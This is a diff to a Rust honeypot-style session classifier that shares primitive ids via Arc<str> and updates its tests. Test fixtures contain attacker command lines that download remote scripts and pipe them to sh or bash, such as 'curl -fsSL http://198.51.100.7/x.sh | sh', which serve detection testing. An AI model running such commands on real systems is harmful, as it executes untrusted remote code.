@@ -17,6 +17,7 @@ use std::collections::HashMap;
 use std::fmt;
 use std::net::IpAddr;
 use std::sync::atomic::{AtomicU64, Ordering};
+use std::sync::Arc;
 use uuid::Uuid;
 
 /// What a session was classified as.
@@ -53,8 +54,9 @@ impl fmt::Display for Outcome {
 /// The result of classifying one session.
 #[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
 pub struct Classification {
-    /// Ids of the matched primitives, in catalog order.
-    pub primitives: Vec<String>,
+    /// Ids of the matched primitives, in catalog order: shared with the engine's catalog, so
+    /// a classification allocates one list, not one string per primitive.
+    pub primitives: Vec<Arc<str>>,
     pub outcome: Outcome,
 }
 
@@ -103,6 +105,8 @@ pub struct Engine {
     /// For each primitive, the behaviors that name it.
     by_primitive: Vec<Vec<u32>>,
     prim_index: HashMap<String, u32>,
+    /// Primitive ids by index, as classifications hand them out.
+    prim_ids: Vec<Arc<str>>,
 }
 
 impl Engine {
@@ -143,8 +147,14 @@ impl Engine {
                 cond: compile_expr(&b.when, &prim_index, &groups),
             });
         }
+        let prim_ids = catalog
+            .primitives
+            .iter()
+            .map(|p| Arc::from(p.id.as_str()))
+            .collect();
         Ok(Engine {
             id: NEXT_ENGINE_ID.fetch_add(1, Ordering::Relaxed),
+            prim_ids,
             catalog,
             matcher,
             behaviors,
@@ -329,17 +339,17 @@ impl Engine {
     }
 
     fn resolve_set(&self, set: &PrimSet) -> Classification {
-        let mut primitives: Vec<String> = Vec::with_capacity(set.len());
+        let mut primitives: Vec<Arc<str>> = Vec::with_capacity(set.len());
         // The primitive named by the fewest behaviors: only those can account for the set.
         let mut rarest: Option<(usize, u32)> = None;
         for i in set.iter() {
-            let (Some(p), Some(by)) = (
-                self.catalog.primitives.get(i as usize),
+            let (Some(id), Some(by)) = (
+                self.prim_ids.get(i as usize),
                 self.by_primitive.get(i as usize),
             ) else {
                 continue;
             };
-            primitives.push(p.id.clone());
+            primitives.push(Arc::clone(id));
             if rarest.is_none_or(|(n, _)| by.len() < n) {
                 rarest = Some((by.len(), i));
             }
@@ -764,6 +774,10 @@ when = "ua-zgrab"
         ev(Protocol::Ssh, EventData::Command { line: line.into() })
     }
 
+    fn ids(c: &Classification) -> Vec<&str> {
+        c.primitives.iter().map(|p| &**p).collect()
+    }
+
     fn both(e: &Engine, events: &[Event]) -> Classification {
         let c = e.classify(events);
         assert_eq!(c, e.classify_naive(events), "compiled and naive disagree");
@@ -780,12 +794,12 @@ when = "ua-zgrab"
                 cmd("WGET http://x/y; chmod 777 y; bash y.sh; uname -a"),
             ],
         );
-        assert_eq!(c.primitives, ["login", "wget", "chmod", "run-sh", "uname"]);
+        assert_eq!(ids(&c), ["login", "wget", "chmod", "run-sh", "uname"]);
         // EQUALS is whole-value; CONTAINS case-sensitive respects case.
         let c = both(&e, &[cmd("uname -a -r; echo secret")]);
         assert!(c.primitives.is_empty(), "{c:?}");
         let c = both(&e, &[cmd("echo SECRET")]);
-        assert_eq!(c.primitives, ["upper-secret"]);
+        assert_eq!(ids(&c), ["upper-secret"]);
         // Protocol filter: Upper is ssh-only.
         let mut t = cmd("echo SECRET");
         t.protocol = Protocol::Telnet;
@@ -866,7 +880,7 @@ when = "ua-zgrab"
             t.protocol = Protocol::Telnet;
         }
         for _ in 0..2 {
-            assert_eq!(both(&e, &ssh).primitives, ["upper-secret"]);
+            assert_eq!(ids(&both(&e, &ssh)), ["upper-secret"]);
             assert_eq!(e.classify_uncached(&ssh), e.classify(&ssh));
             assert!(both(&e, &telnet).primitives.is_empty());
         }
@@ -877,7 +891,7 @@ when = "ua-zgrab"
         ];
         let other = Engine::new(Catalog::parse(&files).unwrap()).unwrap();
         assert!(both(&other, &ssh).primitives.is_empty());
-        assert_eq!(both(&e, &ssh).primitives, ["upper-secret"]);
+        assert_eq!(ids(&both(&e, &ssh)), ["upper-secret"]);
     }
 
     #[test]
@@ -962,7 +976,7 @@ when = "ua-zgrab"
     #[test]
     fn command_line_primitives_found_through_the_commands() {
         let e = Engine::builtin();
-        let has = |c: &Classification, id: &str| c.primitives.iter().any(|p| p == id);
+        let has = |c: &Classification, id: &str| c.primitives.iter().any(|p| &**p == id);
         for (line, pipe) in [
             ("curl -fsSL http://198.51.100.7/x.sh | sh", true),
             ("cd /tmp;WGET -q -O- http://h/i|bash", true),
